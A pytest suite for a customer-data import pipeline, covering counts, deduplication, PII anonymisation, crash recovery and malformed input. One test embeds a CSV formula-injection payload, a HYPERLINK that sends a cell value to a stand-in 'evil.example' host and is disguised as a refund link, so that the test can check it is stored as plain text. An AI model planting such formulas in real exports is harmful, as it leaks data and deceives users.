"""Imports end to end on SQLite and PostgreSQL: counts, duplicates, PII, crashes, bad input."""

import json
import shutil
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import func, select
from sqlalchemy.orm import Session

from cspersona.config import Settings, load_settings
from cspersona.conversations.models import AuthorRole, Interaction, InteractionType, Message
from cspersona.customers.models import Contact, Customer, NpsResponse, UsageDaily
from cspersona.exceptions import BadInput
from cspersona.ingest import service
from cspersona.ingest.loader import Loader
from cspersona.ingest.models import (
    IngestionRun,
    InteractionFingerprint,
    QuarantinedRecord,
    QuarantineKind,
    RunStatus,
)
from cspersona.ingest.records import Entity

ROOT = Path(__file__).resolve().parents[2]
WORLD = ROOT / "tests" / "ingest" / "data" / "world"
SAMPLES = ROOT / "docs" / "samples"
WORLD_ROWS = {
    "customers": 3,
    "contacts": 3,
    "interactions": 4,
    "messages": 9,
    "nps_responses": 2,
    "usage_daily": 4,
    "lifecycle_events": 1,
}
RAW_PII = [
    "Priya",
    "Raman",
    "Tomasz",
    "Hope Bishop",
    "acme-logistics.example",
    "7946 0958",
    "DE89 3704",
]


def settings(**overrides: Any) -> Settings:
    return load_settings(secret_key="test-secret", ingest_workers=1, **overrides)


def run(db_session: Session, *paths: Path, **options: Any) -> IngestionRun:
    config = options.pop("settings", None) or settings()
    return service.run_import(db_session=db_session, settings=config, paths=list(paths), **options)


def count(db_session: Session, model: Any) -> int:
    return db_session.scalar(select(func.count()).select_from(model)) or 0


def entities(run_: IngestionRun) -> dict[str, dict[str, int]]:
    result: dict[str, dict[str, int]] = run_.summary["entities"]
    return result


def counts(received: int, loaded: int, duplicates: int, quarantined: int) -> dict[str, int]:
    return {
        "received": received,
        "loaded": loaded,
        "duplicates": duplicates,
        "quarantined": quarantined,
    }


def assert_reconciled(run_: IngestionRun) -> None:
    for name, counts in entities(run_).items():
        total = counts["loaded"] + counts["duplicates"] + counts["quarantined"]
        assert counts["received"] == total, name


def stored_text(db_session: Session) -> str:
    """Every stored text field that may carry PII, as one string."""
    columns = [
        Message.text,
        Message.body,
        Message.author_id,
        Interaction.subject,
        Contact.name,
        Contact.email,
        Contact.phone,
        NpsResponse.comment,
        QuarantinedRecord.raw,
    ]
    values = [str(value) for column in columns for value in db_session.scalars(select(column))]
    return "\n".join(values)


def test_a_dataset_folder_loads_with_counts_that_reconcile(db_session: Session) -> None:
    result = run(db_session, WORLD, settings=settings(ingest_batch_size=4))

    assert result.status is RunStatus.COMPLETED
    assert {name: counts["loaded"] for name, counts in entities(result).items()} == WORLD_ROWS
    assert_reconciled(result)
    assert count(db_session, Message) == 9 and count(db_session, UsageDaily) == 4
    assert count(db_session, InteractionFingerprint) == 4
    interaction = db_session.scalars(select(Interaction).order_by(Interaction.id)).first()
    assert interaction is not None and interaction.ingestion_run_id == result.id
    assert interaction.source == "import" and interaction.content_hash is not None
    assert [m.seq for m in interaction.messages] == [0, 1, 2]


def test_running_the_same_import_again_loads_nothing_new(db_session: Session) -> None:
    run(db_session, WORLD)

    again = run(db_session, WORLD, settings=settings(ingest_batch_size=3))

    assert {name: c["loaded"] for name, c in entities(again).items()} == dict.fromkeys(
        WORLD_ROWS, 0
    )
    assert {name: c["duplicates"] for name, c in entities(again).items()} == WORLD_ROWS
    assert count(db_session, Customer) == 3 and count(db_session, Message) == 9
    assert count(db_session, QuarantinedRecord) == 0  # exact repeats are counted, not kept


def test_pii_is_anonymised_before_it_is_stored(db_session: Session) -> None:
    run(db_session, WORLD)

    text = stored_text(db_session)
    assert not [value for value in RAW_PII if value in text]
    contact = db_session.scalars(select(Contact).where(Contact.external_id == "con_001")).one()
    assert contact.email is not None and contact.email.endswith("@example.com")
    given_name = (contact.name or "").split()[0]
    texts = list(db_session.scalars(select(Message.text)))
    assert any(
        f"Thanks, {given_name}" in value for value in texts
    )  # the same person, same pseudonym
    assert any("[bank account]" in value for value in texts)


def test_a_message_is_stored_with_its_clean_body_anonymised_too(
    db_session: Session, tmp_path: Path
) -> None:
    folder = tmp_path / "world"
    shutil.copytree(WORLD, folder)
    lines = (folder / "messages.jsonl").read_text().splitlines()
    first = json.loads(lines[0])
    first["text"] = (
        "Hi team,\n\nOur dashboard export keeps failing. Is Priya's ticket moving?\n\n"
        "Best,\nPriya Raman\nHead of Operations | Acme Logistics\nTel: +44 20 7946 0958\n\n"
        "On Mon, 3 Mar 2025, Sam wrote:\n> Hi Priya"
    )
    (folder / "messages.jsonl").write_text("\n".join([json.dumps(first), *lines[1:]]) + "\n")

    run(db_session, folder)

    message = db_session.scalars(select(Message).where(Message.external_id == "msg_001")).one()
    assert "Head of Operations" in message.text and "> Hi" in message.text  # kept whole
    assert message.body.startswith("Hi team,\n\nOur dashboard export keeps failing. Is ")
    assert message.body.endswith("'s ticket moving?")
    assert "Priya" not in message.body  # anonymised like the text


def test_pii_handling_follows_the_settings(db_session: Session) -> None:
    run(db_session, WORLD, settings=settings(pii_enabled=False))

    assert "Priya Raman" in stored_text(db_session)


def test_contact_fields_can_be_kept_while_text_is_anonymised(db_session: Session) -> None:
    run(db_session, WORLD, settings=settings(pii_contact_fields="keep"))

    names = set(db_session.scalars(select(Contact.name)))
    assert "Priya Raman" in names
    assert not any("Priya" in text for text in db_session.scalars(select(Message.text)))


def test_a_crash_leaves_whole_batches_and_running_again_completes(
    db_session: Session, monkeypatch: pytest.MonkeyPatch
) -> None:
    real_write_nps = Loader._write_nps

    def crash_when_nps_arrive(loader: Loader) -> None:
        if loader.writing.records[Entity.NPS_RESPONSES]:
            raise RuntimeError("disk full")  # after this batch's conversations were written
        real_write_nps(loader)

    monkeypatch.setattr(Loader, "_write_nps", crash_when_nps_arrive)
    with pytest.raises(RuntimeError, match="disk full"):
        run(db_session, WORLD, settings=settings(ingest_batch_size=5))

    failed = db_session.scalars(select(IngestionRun)).one()
    assert failed.status is RunStatus.FAILED and failed.error == "disk full"
    stored = {"customers": count(db_session, Customer), "messages": count(db_session, Message)}
    committed = {name: c["loaded"] for name, c in entities(failed).items()}
    assert stored == {"customers": committed["customers"], "messages": committed.get("messages", 0)}
    assert count(db_session, NpsResponse) == 0
    # No half batch: every stored conversation has all of its messages.
    per_conversation = db_session.execute(
        select(Interaction.external_id, func.count(Message.id))
        .join(Message, Message.interaction_id == Interaction.id, isouter=True)
        .group_by(Interaction.external_id)
    ).all()
    expected = {"int_001": 3, "int_002": 2, "int_003": 2, "int_004": 2}
    assert all(expected[key] == messages for key, messages in per_conversation)

    monkeypatch.setattr(Loader, "_write_nps", real_write_nps)
    again = run(db_session, WORLD, settings=settings(ingest_batch_size=5))

    assert again.status is RunStatus.COMPLETED
    for name, rows in WORLD_ROWS.items():
        first = entities(failed).get(name, {}).get("loaded", 0)
        assert entities(again)[name]["loaded"] + first == rows, name
    assert count(db_session, Message) == 9 and count(db_session, NpsResponse) == 2


def write_jsonl(folder: Path, name: str, rows: list[dict[str, Any]]) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / f"{name}.jsonl"
    path.write_text("".join(json.dumps(row) + "\n" for row in rows), encoding="utf-8")
    return path


def conversation(
    external_id: str, started_at: str, text: str
) -> tuple[dict[str, Any], dict[str, Any]]:
    interaction = {
        "external_id": external_id,
        "customer_external_id": "cus_001",
        "type": "ticket",
        "started_at": started_at,
    }
    message = {
        "external_id": f"{external_id}-0",
        "interaction_external_id": external_id,
        "seq": 0,
        "author_role": "customer",
        "sent_at": started_at,
        "text": text,
    }
    return interaction, message


OTHER_TEXT = "We would like to add twenty seats to our plan next month, please."
LONG_TEXT = (
    "Our scheduled reports arrive two hours late every Monday morning and the finance team "
    "cannot close the week without them. We checked the time zone of the workspace and the "
    "schedule itself, both look right. Could you check the report queue for our account?"
)


@pytest.mark.parametrize(
    ("second_text", "second_start", "threshold", "duplicate"),
    [
        (LONG_TEXT, "2025-06-02T09:00:00+00:00", 0.9, True),  # same text, same day
        (LONG_TEXT.upper() + "!!", "2025-06-02T09:00:00+00:00", 0.9, True),  # formatting only
        (LONG_TEXT + " Thanks, Anna", "2025-06-02T10:00:00+00:00", 0.8, True),  # near
        (LONG_TEXT + " Thanks, Anna", "2025-06-02T10:00:00+00:00", 1.0, False),  # threshold
        (LONG_TEXT, "2025-06-20T09:00:00+00:00", 0.9, False),  # a recurring request
        (OTHER_TEXT, "2025-06-02T09:00:00+00:00", 0.9, False),
    ],
)  # fmt: skip
def test_conversations_repeated_under_another_id_are_duplicates(
    db_session: Session,
    tmp_path: Path,
    second_text: str,
    second_start: str,
    threshold: float,
    duplicate: bool,
) -> None:
    run(db_session, WORLD)
    first = conversation("dup-1", "2025-06-02T08:00:00+00:00", LONG_TEXT)
    second = conversation("dup-2", second_start, second_text)
    folder = tmp_path / "again"
    write_jsonl(folder, "interactions", [first[0], second[0]])
    write_jsonl(folder, "messages", [first[1], second[1]])

    result = run(db_session, folder, settings=settings(ingest_near_duplicate_threshold=threshold))

    interactions = entities(result)["interactions"]
    assert (interactions["loaded"], interactions["duplicates"]) == ((1, 1) if duplicate else (2, 0))
    assert_reconciled(result)
    kept = db_session.scalars(
        select(QuarantinedRecord).where(QuarantinedRecord.kind == QuarantineKind.DUPLICATE)
    ).all()
    assert len(kept) == (2 if duplicate else 0)  # the interaction and its message, never dropped
    if duplicate:
        assert kept[0].row_ref == "interactions.jsonl:2"
        assert "repeats the conversation at interactions.jsonl:1" in kept[0].reason


def test_a_near_duplicate_of_an_earlier_import_is_found_from_stored_fingerprints(
    db_session: Session, tmp_path: Path
) -> None:
    run(db_session, WORLD)
    for number, text in ((1, LONG_TEXT), (2, LONG_TEXT + " Thanks, Anna")):
        interaction, message = conversation(f"dup-{number}", "2025-06-02T08:00:00+00:00", text)
        folder = tmp_path / f"import-{number}"
        write_jsonl(folder, "interactions", [interaction])
        write_jsonl(folder, "messages", [message])
        result = run(db_session, folder, settings=settings(ingest_near_duplicate_threshold=0.8))

    assert entities(result)["interactions"]["duplicates"] == 1
    reason = db_session.scalars(select(QuarantinedRecord.reason)).first()
    stored_id = db_session.scalars(
        select(Interaction.id).where(Interaction.external_id == "dup-1")
    ).one()
    assert reason is not None and reason.startswith(f"repeats interaction {stored_id} ")


def test_duplicate_ids_inside_one_file_are_counted_and_differing_ones_kept_aside(
    db_session: Session, tmp_path: Path
) -> None:
    row = {"external_id": "cus_100", "company_name": "Delta Retail", "plan": "Growth"}
    path = write_jsonl(tmp_path, "customers", [row, row, row | {"plan": "Enterprise"}])

    result = run(db_session, path)

    assert entities(result)["customers"] == counts(3, 1, 2, 0)
    kept = db_session.scalars(select(QuarantinedRecord)).one()
    assert kept.kind is QuarantineKind.DUPLICATE and kept.row_ref == "customers.jsonl:3"
    assert (
        kept.reason == "the same id as customers.jsonl:1, with different values; the first was kept"
    )
    plan = db_session.scalars(select(Customer.plan).where(Customer.external_id == "cus_100")).one()
    assert plan == "Growth"


def test_records_of_unknown_customers_are_quarantined_and_the_rest_loads(
    db_session: Session, tmp_path: Path
) -> None:
    run(db_session, WORLD)
    usage = [
        {"customer_external_id": "cus_001", "day": "2025-04-01", "logins": 3},
        {"customer_external_id": "cus_404", "day": "2025-04-01", "logins": 3},
    ]

    result = run(db_session, write_jsonl(tmp_path, "usage_daily", usage))

    assert entities(result)["usage_daily"] == counts(2, 1, 0, 1)
    kept = db_session.scalars(select(QuarantinedRecord)).one()
    assert kept.kind is QuarantineKind.INVALID and kept.entity == "usage_daily"
    assert kept.reason.startswith(
        "customer 'cus_404' is neither in the database nor in this import"
    )
    assert json.loads(kept.raw)["customer_external_id"] == "cus_404"


def test_new_turns_of_a_stored_conversation_are_appended(
    db_session: Session, tmp_path: Path
) -> None:
    run(db_session, WORLD)
    messages = [
        json.loads(line) for line in (WORLD / "messages.jsonl").read_text().splitlines()[:3]
    ]
    messages.append(
        messages[-1] | {"external_id": "msg_new", "seq": 3, "text": "One more thing: thanks!"}
    )

    result = run(db_session, write_jsonl(tmp_path, "messages", messages))

    assert entities(result)["messages"] == counts(4, 1, 3, 0)
    stored = db_session.scalars(
        select(Message.seq)
        .join(Interaction)
        .where(Interaction.external_id == "int_001")
        .order_by(Message.seq)
    ).all()
    assert stored == [0, 1, 2, 3]


def test_invalid_rows_are_quarantined_with_location_raw_and_reason(
    db_session: Session, tmp_path: Path
) -> None:
    run(db_session, WORLD)
    path = tmp_path / "messages.csv"
    path.write_text(
        "external_id,interaction_external_id,seq,author_role,sent_at,text\n"
        "m1,int_002,2,customer,2025-04-10T15:00:00Z,Thanks!\n"
        "m2,int_002,3,robot,yesterday,Hello\n",
        encoding="utf-8",
    )

    result = run(db_session, path)

    assert entities(result)["messages"]["loaded"] == 1
    kept = db_session.scalars(select(QuarantinedRecord)).one()
    assert (kept.row_ref, kept.raw, kept.source) == (
        "messages.csv:3",
        "m2,int_002,3,robot,yesterday,Hello\n",
        "csv",
    )
    assert kept.reason.startswith("author_role: 'robot' is not a message author role")
    assert "sent_at: 'yesterday' is not a date or time" in kept.reason


def test_every_vendor_sample_loads(db_session: Session) -> None:
    names = [
        "hubspot-companies.csv", "hubspot-contacts.csv", "hubspot-tickets.csv",
        "salesforce-accounts.csv", "salesforce-contacts.csv", "salesforce-cases.csv",
        "zendesk-tickets.json", "intercom-conversations.json", "freshdesk-tickets.json",
    ]  # fmt: skip

    result = run(db_session, WORLD, *(SAMPLES / name for name in names))

    assert result.summary["problems"] == []
    assert_reconciled(result)
    assert sum(counts["quarantined"] for counts in entities(result).values()) == 0
    sources = set(db_session.scalars(select(Interaction.source)))
    assert sources == {"import", "hubspot", "salesforce", "zendesk", "intercom", "freshdesk"}
    assert not [value for value in RAW_PII if value in stored_text(db_session)]


def test_transcripts_and_text_files_need_and_use_a_customer(db_session: Session) -> None:
    run(db_session, WORLD)
    names = [
        "call-2025-03-04T1015.vtt",
        "support-call-2025-03-05.srt",
        "interview-2025-04-01.txt",
        "email-2025-03-10.txt",
    ]
    files = [SAMPLES / name for name in names]

    result = run(db_session, *files, customer="cus_003")

    assert entities(result)["interactions"]["loaded"] == 4
    assert entities(result)["messages"]["loaded"] == 3 + 3 + 4 + 1
    authors = set(db_session.scalars(select(Message.author_id)))
    assert "Hope Bishop" not in authors and "Agent" in authors
    interview = db_session.scalars(
        select(Interaction).where(Interaction.subject == "interview-2025-04-01")
    ).one()
    assert interview.type is InteractionType.INTERVIEW
    assert [m.author_role for m in interview.messages].count(AuthorRole.CUSTOMER) == 2
    with pytest.raises(BadInput, match="pass --customer EXTERNAL_ID"):
        run(db_session, files[0])


def test_a_mapping_loads_an_unfamiliar_layout(db_session: Session) -> None:
    run(db_session, WORLD)

    result = run(
        db_session, SAMPLES / "chat-export.csv", mapping_path=SAMPLES / "chat-mapping.yaml"
    )

    assert entities(result)["interactions"] == counts(2, 2, 0, 0)
    chat = db_session.scalars(select(Interaction).where(Interaction.external_id == "c-1")).one()
    assert chat.source == "chat-tool"
    assert chat.started_at.isoformat() == "2025-03-04T09:15:00+00:00"  # day first, Paris time
    assert [m.author_role.value for m in chat.messages] == ["customer", "agent", "customer"]


# Bad input: each gets a clear message, and nothing already loaded is lost.


@pytest.fixture
def loaded(db_session: Session) -> Session:
    run(db_session, WORLD)
    return db_session


def assert_world_intact(db_session: Session) -> None:
    assert count(db_session, Customer) >= 3 and count(db_session, Message) >= 9


@pytest.mark.parametrize(
    ("name", "content", "message"),
    [
        ("empty.csv", b"", "empty.csv is empty: there is nothing to import"),
        ("garbage.csv", bytes(range(256)) * 8, "garbage.csv is binary data, not text"),
        ("report.csv", b"PK\x03\x04" + bytes(64), "report.csv is a ZIP archive"),
        ("messages.csv", b"external_id,interaction_external_id,seq\nm1,int_001,5\n",
         "messages.csv lacks required column(s) author_role, sent_at, text"),
        ("data.csv", b"a,b\n1,2\n", "cannot tell which entity data.csv holds (columns: a, b)"),
    ],
)  # fmt: skip
def test_unreadable_inputs_fail_with_one_message_and_lose_nothing(
    loaded: Session, tmp_path: Path, name: str, content: bytes, message: str
) -> None:
    path = tmp_path / name
    path.write_bytes(content)

    with pytest.raises(BadInput, match=message.replace("(", r"\(").replace(")", r"\)")):
        run(loaded, path)

    failed = loaded.scalars(select(IngestionRun).order_by(IngestionRun.id.desc())).first()
    assert failed is not None and failed.status is RunStatus.FAILED
    assert_world_intact(loaded)


def test_an_unreadable_input_does_not_stop_the_others(loaded: Session, tmp_path: Path) -> None:
    (tmp_path / "empty.csv").write_bytes(b"")
    good = write_jsonl(
        tmp_path / "more", "customers", [{"external_id": "cus_200", "company_name": "Echo"}]
    )

    result = run(loaded, tmp_path / "empty.csv", good)

    assert result.status is RunStatus.COMPLETED
    assert result.summary["problems"] == ["empty.csv is empty: there is nothing to import"]
    assert entities(result)["customers"]["loaded"] == 1


def test_truncated_json_loads_what_precedes_and_keeps_the_tail(
    loaded: Session, tmp_path: Path
) -> None:
    path = tmp_path / "customers.json"
    path.write_text(
        '[{"external_id": "cus_201", "company_name": "Fox"}, {"external_id": "cus_202", "comp',
        encoding="utf-8",
    )

    result = run(loaded, path)

    assert entities(result)["customers"] == counts(2, 1, 0, 1)
    kept = loaded.scalars(select(QuarantinedRecord)).one()
    assert kept.row_ref == "customers.json $[1]" and kept.raw.startswith(
        '{"external_id": "cus_202"'
    )
    assert kept.reason == "the file ends inside element [1]: is it truncated?"
    assert_world_intact(loaded)


def test_a_latin1_file_is_read_in_its_encoding(loaded: Session, tmp_path: Path) -> None:
    path = tmp_path / "customers.csv"
    path.write_bytes("external_id,company_name\ncus_203,Société Générale Café\n".encode("latin-1"))

    run(loaded, path)

    name = loaded.scalars(
        select(Customer.company_name).where(Customer.external_id == "cus_203")
    ).one()
    assert name == "Société Générale Café"


def test_a_ten_megabyte_field_is_quarantined_and_the_other_rows_load(
    loaded: Session, tmp_path: Path
) -> None:
    path = tmp_path / "messages.csv"
    path.write_text(
        "external_id,interaction_external_id,seq,author_role,sent_at,text\n"
        f"m1,int_002,2,customer,2025-04-10T15:00:00Z,{'x' * 10_000_000}\n"
        'm2,int_002,3,customer,2025-04-10T15:01:00Z,"Sorry, wrong paste. Thanks!"\n',
        encoding="utf-8",
    )

    result = run(loaded, path)

    assert entities(result)["messages"] == counts(2, 1, 0, 1)
    kept = loaded.scalars(select(QuarantinedRecord)).one()
    assert kept.reason == (
        "text: 10,000,000 characters is over the limit of 100,000 "
        "(CSPERSONA_INGEST_MAX_FIELD_CHARS); trim or split it"
    )
    row_length = len("m1,int_002,2,customer,2025-04-10T15:00:00Z,\n") + 10_000_000
    assert kept.raw.endswith(f"[… {row_length:,} characters in all]") and len(kept.raw) < 250_000


def test_unknown_columns_are_ignored_and_reported(loaded: Session, tmp_path: Path) -> None:
    path = tmp_path / "customers.csv"
    path.write_text(
        "external_id,company_name,favourite_colour\ncus_204,Gamma,teal\n", encoding="utf-8"
    )

    result = run(loaded, path)

    assert entities(result)["customers"]["loaded"] == 1
    assert result.summary["notes"] == [
        "customers.csv: ignored column(s) favourite_colour (not customers fields)"
    ]


def test_dates_in_mixed_formats_and_zones_are_stored_in_utc(
    loaded: Session, tmp_path: Path
) -> None:
    path = tmp_path / "interactions.csv"
    path.write_text(
        "external_id,customer_external_id,type,started_at\n"
        "t1,cus_001,ticket,2025-03-04T10:15:00+02:00\n"
        "t2,cus_001,ticket,04/03/2025 10:15\n"
        't3,cus_001,ticket,"March 4, 2025 10:15 PM PST"\n'
        "t4,cus_001,ticket,1741083300\n"
        "t5,cus_001,ticket,next tuesday\n",
        encoding="utf-8",
    )

    result = run(
        loaded, path, settings=settings(ingest_timezone="Europe/Paris", ingest_dayfirst=True)
    )

    query = select(Interaction.external_id, Interaction.started_at).where(
        Interaction.external_id.in_(["t1", "t2", "t3", "t4"])
    )
    starts = dict(iter(loaded.execute(query)))
    assert {key: value.isoformat() for key, value in starts.items()} == {
        "t1": "2025-03-04T08:15:00+00:00",
        "t2": "2025-03-04T09:15:00+00:00",
        "t3": "2025-03-05T06:15:00+00:00",
        "t4": "2025-03-04T10:15:00+00:00",
    }
    assert entities(result)["interactions"]["quarantined"] == 1


def test_spreadsheet_formulas_are_stored_as_text(loaded: Session, tmp_path: Path) -> None:
    formula = '=HYPERLINK("http://evil.example/steal?c="&A1,"Click for your refund")'
    path = tmp_path / "messages.csv"
    path.write_text(
        "external_id,interaction_external_id,seq,author_role,sent_at,text\n"
        f'm1,int_002,2,customer,2025-04-10T15:00:00Z,"{formula.replace(chr(34), chr(34) * 2)}"\n',
        encoding="utf-8",
    )

    run(loaded, path)

    stored = loaded.scalars(select(Message.text).where(Message.external_id == "m1")).one()
    assert stored == formula


def test_a_world_copied_to_csv_loads_the_same(db_session: Session, tmp_path: Path) -> None:
    folder = tmp_path / "csv-world"
    folder.mkdir()
    for source in WORLD.glob("*.jsonl"):
        rows = [json.loads(line) for line in source.read_text().splitlines()]
        columns = list(dict.fromkeys(key for row in rows for key in row))
        lines = [",".join(columns)]
        for row in rows:
            cells = [
                json.dumps(row.get(c)) if isinstance(row.get(c), dict) else row.get(c)
                for c in columns
            ]
            lines.append(
                ",".join('"' + str("" if v is None else v).replace('"', '""') + '"' for v in cells)
            )
        (folder / f"{source.stem}.csv").write_text("\n".join(lines) + "\n", encoding="utf-8")
    shutil.copy(WORLD / "manifest.json", folder / "manifest.json")
    manifest = json.loads((folder / "manifest.json").read_text())
    for entry in manifest["files"].values():
        entry["path"] = entry["path"].replace(".jsonl", ".csv")
    (folder / "manifest.json").write_text(json.dumps(manifest))

    result = run(db_session, folder)

    assert {name: counts["loaded"] for name, counts in entities(result).items()} == WORLD_ROWS
